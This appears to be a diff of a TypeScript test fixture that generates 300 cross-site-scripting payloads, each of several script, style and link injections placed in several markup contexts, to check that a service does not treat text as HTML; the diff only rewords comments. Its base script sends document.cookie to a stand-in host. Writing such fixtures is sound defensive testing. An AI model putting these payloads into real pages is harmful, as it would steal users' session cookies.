@@ -1,4 +1,7 @@
-/** Ways to make a page run a script, or ask somewhere else, if it took a text for markup. `go` is what is to be run. */
+/**
+ * Ways to make a page run a script, or send requests elsewhere, if it treats a text as HTML. `go`
+ * is the script.
+ */
 const go = `fetch('https://elsewhere.test/'+document.cookie),alert(1)`;
 const attempts: readonly string[] = [
   `<script>${go}</script>`,
@@ -28,7 +31,7 @@ const attempts: readonly string[] = [
   `<p style="background:url(https://elsewhere.test/b.png)">x`,
 ];
 
-/** Where a text may stand when it is taken for markup. */
+/** Contexts in which a text could be treated as HTML. */
 const places: readonly ((attempt: string) => string)[] = [
   (attempt) => attempt,
   (attempt) => `">${attempt}`,
@@ -41,8 +44,8 @@ const places: readonly ((attempt: string) => string)[] = [
   (attempt) => `[x](javascript:${go}) ![y](https://elsewhere.test/i.png) ${attempt}`,
   (attempt) => attempt.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
   (attempt) => attempt.replaceAll('<', '\\u003c').replaceAll('"', '\\x22'),
-  (attempt) => `\u202e\u0007${attempt}\u2028`, // nothing that has a NUL is kept
+  (attempt) => `\u202e\u0007${attempt}\u2028`, // The service stores no text with NUL.
 ];
 
-/** 300 texts: each attempt in each place. */
+/** 300 texts: each attempt in each context. */
 export const payloads: readonly string[] = places.flatMap((place) => attempts.map(place));
